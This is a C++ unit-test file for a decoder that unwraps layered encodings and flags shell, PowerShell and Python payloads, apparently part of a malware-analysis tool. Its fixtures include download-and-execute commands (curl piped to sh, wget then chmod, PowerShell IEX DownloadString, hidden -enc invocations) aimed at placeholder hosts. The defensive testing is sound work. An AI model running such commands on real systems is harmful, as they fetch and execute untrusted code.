#include "analysis/unpack/unwrap.h"

#include <gtest/gtest.h>

#include "analysis/unpack/decoders.h"
#include "analysis/unpack/test_util.h"
#include "analysis/unpack/test_vectors.h"

namespace pyward {
namespace {

namespace tv = testvec;
namespace tu = testutil;
using E = Encoding;

std::string Chain(const Layer& l) {
  std::string s;
  for (Encoding e : l.chain) {
    if (!s.empty()) s += ">";
    s += EncodingName(e);
  }
  return s;
}

const char kPs[] =
    "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')";

TEST(UnpackClassify, Families) {
  EXPECT_EQ(Classify(tv::kSnippet), Content::kPython);
  EXPECT_EQ(Classify("curl -s http://example.invalid/x | sh"), Content::kShell);
  EXPECT_EQ(Classify("#!/bin/bash\nwget -q http://h/p -O /tmp/p && chmod +x /tmp/p"),
            Content::kShell);
  EXPECT_EQ(Classify(kPs), Content::kPowerShell);
  EXPECT_EQ(Classify("Invoke-WebRequest -Uri http://h -OutFile a.exe"),
            Content::kPowerShell);
  EXPECT_EQ(Classify("The quick brown fox jumps over the lazy dog."),
            Content::kText);
  EXPECT_EQ(Classify("caf\xc3\xa9 cr\xc3\xa8me"), Content::kText);
  EXPECT_EQ(Classify(tu::Random(4096, 1)), Content::kBinary);
  EXPECT_EQ(Classify(""), Content::kBinary);
  EXPECT_EQ(Classify(tv::kMarshal311), Content::kPythonBytecode);
  EXPECT_EQ(Classify(tv::kMarshal27), Content::kPythonBytecode);
  EXPECT_EQ(ContentName(Content::kPowerShell), "powershell");
}

TEST(UnpackUnwrap, SingleLayers) {
  DecodeLimits lim;
  struct Case { std::string blob; std::string chain; };
  const Case cases[] = {
      {std::string(tv::kB64), "base64"},
      {std::string(tv::kB32), "base32"},
      {std::string(tv::kB16), "hex"},
      {std::string(tv::kB85), "base85"},
      {std::string(tv::kA85Adobe), "ascii85"},
      {std::string(tv::kZlib), "zlib"},
      {std::string(tv::kGzip2Members.substr(0, tv::kGzip2Members.size())), "gzip"},
      {std::string(tv::kBz2), "bz2"},
      {std::string(tv::kXz), "lzma"},
      {tu::Utf16le(std::string(tv::kSnippet)), "utf16le"},
      {"\n)'ih'(tnirp\nso tropmi", "reverse"},
      {"vzcbeg bf\ncevag('uv')\n", "rot13"},
      {XorWithKey("import os\nprint('hi')\nexec(compile(x))\n", "\x21"), "xor"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.chain);
    std::vector<Layer> layers = Unwrap(c.blob, lim);
    ASSERT_EQ(layers.size(), 1u);
    EXPECT_EQ(Chain(layers[0]), c.chain);
    EXPECT_EQ(layers[0].content, Content::kPython);
    EXPECT_NE(layers[0].data.find("print('hi')"), std::string::npos);
  }
}

// snippet -> zlib -> base64 -> bz2 -> hex -> xz -> base64 -> base32 ->
// reverse: eight layers (DecodeLimits' default max_layers).
TEST(UnpackUnwrap, DeepNesting) {
  std::string code = "import os\nos.system('echo layered')\n";
  std::string s = tu::B64(tu::Xz(tu::Hex(tu::Bz2(tu::B64(tu::Zlib(code))))));
  std::string b32 = tu::B32(s);
  // A reversed base32 blob starts with its padding: add a byte until it has.
  while (b32.back() != '=') {
    s += "\n";
    b32 = tu::B32(s);
  }
  std::string blob(b32.rbegin(), b32.rend());
  std::vector<Layer> layers = Unwrap(blob, DecodeLimits());
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(Chain(layers[0]),
            "reverse>base32>base64>lzma>hex>bz2>base64>zlib");
  EXPECT_EQ(layers[0].data, code);
  EXPECT_EQ(layers[0].content, Content::kPython);

  // Cut short by max_layers: no Python reached.
  DecodeLimits shallow;
  shallow.max_layers = 5;
  for (const Layer& l : Unwrap(blob, shallow))
    EXPECT_NE(l.content, Content::kPython);
  // And by max_steps.
  DecodeLimits few;
  few.max_steps = 4;
  for (const Layer& l : Unwrap(blob, few)) EXPECT_NE(l.content, Content::kPython);
}

// Text whose first two bytes happen to pass zlib's header check ("HK":
// 0x484b % 31 == 0) is still text.
TEST(UnpackUnwrap, TextThatLooksLikeAZlibHeader) {
  std::string key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  std::vector<Layer> layers = Unwrap(tu::B64(key), DecodeLimits());
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(Chain(layers[0]), "base64");
  EXPECT_EQ(layers[0].data, key);
  EXPECT_EQ(layers[0].content, Content::kText);
}

TEST(UnpackUnwrap, NothingFromNoise) {
  DecodeLimits lim;
  EXPECT_TRUE(Unwrap(tu::Random(1 << 16, 2), lim).empty());
  // Text in the base64 alphabet that is not base64 of anything meaningful.
  std::string b64ish = tu::B64(tu::Random(3000, 4));
  EXPECT_TRUE(Unwrap(b64ish, lim).empty());
  EXPECT_TRUE(Unwrap("ThisIsJustAVeryLongIdentifierName", lim).empty());
  EXPECT_TRUE(Unwrap("deadbeefdeadbeefdeadbeef", lim).empty());
  EXPECT_TRUE(Unwrap("==== a banner, not reversed base64 ====", lim).empty());
  // Reversed, this holds "noitaredef " ("def "): one indicator is no code.
  EXPECT_TRUE(Unwrap("The endpoint for console federation, if connecting "
                     "from behind a proxy.", lim).empty());
  EXPECT_TRUE(Unwrap(tv::kSnippet, lim).empty());  // the blob is no layer
  EXPECT_TRUE(Unwrap("", lim).empty());
}

TEST(UnpackUnwrap, BombsStayWithinLimits) {
  DecodeLimits lim;
  lim.max_output = 1 << 20;
  lim.max_total = 4 << 20;
  for (std::string_view bomb : {tv::kZlibBomb2, tv::kBz2Bomb, tv::kXzBomb2}) {
    std::string blob = tu::B64(bomb);
    std::vector<Layer> layers = Unwrap(blob, lim);
    size_t total = 0;
    for (const Layer& l : layers) {
      EXPECT_LE(l.data.size(), lim.max_output);
      total += l.data.size();
    }
    EXPECT_LE(total, lim.max_total);
  }
}

TEST(UnpackUnwrap, PowerShellEncodedCommand) {
  std::string enc = tu::B64(tu::Utf16le(kPs));
  // A base64 UTF-16LE blob on its own.
  std::vector<Layer> layers = Unwrap(enc, DecodeLimits());
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(Chain(layers[0]), "base64>utf16le");
  EXPECT_EQ(layers[0].data, kPs);
  EXPECT_EQ(layers[0].content, Content::kPowerShell);
  // A command line holding one, itself base64 encoded.
  std::string cmd = "cmd /c powershell -NoP -W Hidden -enc " + enc;
  layers = Unwrap(tu::B64(cmd), DecodeLimits());
  ASSERT_EQ(layers.size(), 2u);
  EXPECT_EQ(layers[0].data, cmd);
  EXPECT_EQ(Chain(layers[1]), "base64>base64>utf16le");
  EXPECT_EQ(layers[1].data, kPs);
}

TEST(UnpackFindPowerShellEncoded, Spellings) {
  DecodeLimits lim;
  std::string enc = tu::B64(tu::Utf16le(kPs));
  for (const char* opt : {"-EncodedCommand", "-enc", "-e", "-ec", "/ENC", "-eNcOdEd",
                          "\"-enc\""}) {
    std::string text = std::string("powershell.exe -NoProfile ") + opt + " " + enc;
    if (opt[0] == '"') text = std::string("powershell \"-enc\" \"") + enc + "\"";
    std::vector<std::string> got = FindPowerShellEncoded(text, lim);
    ASSERT_EQ(got.size(), 1u) << opt;
    EXPECT_EQ(got[0], kPs);
  }
  std::string two = "pwsh -e " + enc + "; pwsh -enc " + enc;
  EXPECT_EQ(FindPowerShellEncoded(two, lim).size(), 2u);
  EXPECT_TRUE(FindPowerShellEncoded("echo -e hello world", lim).empty());
  EXPECT_TRUE(FindPowerShellEncoded("x-enc " + enc, lim).empty());
  EXPECT_TRUE(FindPowerShellEncoded("-ExecutionPolicy " + enc, lim).empty());
  EXPECT_TRUE(FindPowerShellEncoded("-enc " + tu::B64(tu::Random(90, 3)), lim).empty());
}

TEST(UnpackUnwrap, MarshalCodeAndItsStrings) {
  std::string blob = tu::B64(tu::Zlib(tv::kMarshal311));
  std::vector<Layer> layers = Unwrap(blob, DecodeLimits());
  ASSERT_EQ(layers.size(), 2u);
  EXPECT_EQ(Chain(layers[0]), "base64>zlib>marshal");
  EXPECT_EQ(layers[0].content, Content::kPythonBytecode);
  EXPECT_NE(layers[0].data.find("hello from marshal"), std::string::npos);
  // The base64 string constant inside the code object.
  EXPECT_EQ(Chain(layers[1]), "base64>zlib>marshal>base64");
  EXPECT_EQ(layers[1].data, tv::kSnippet);
  EXPECT_EQ(layers[1].content, Content::kPython);
}

TEST(UnpackUnwrap, ExecutableKeptOtherBinaryNot) {
  std::string exe = "MZ" + tu::Random(500, 8);
  std::vector<Layer> layers = Unwrap(tu::B64(exe), DecodeLimits());
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(layers[0].content, Content::kBinary);
  EXPECT_EQ(layers[0].data, exe);
  EXPECT_TRUE(Unwrap(tu::B64(tu::Random(500, 8)), DecodeLimits()).empty());
}

}  // namespace
}  // namespace pyward
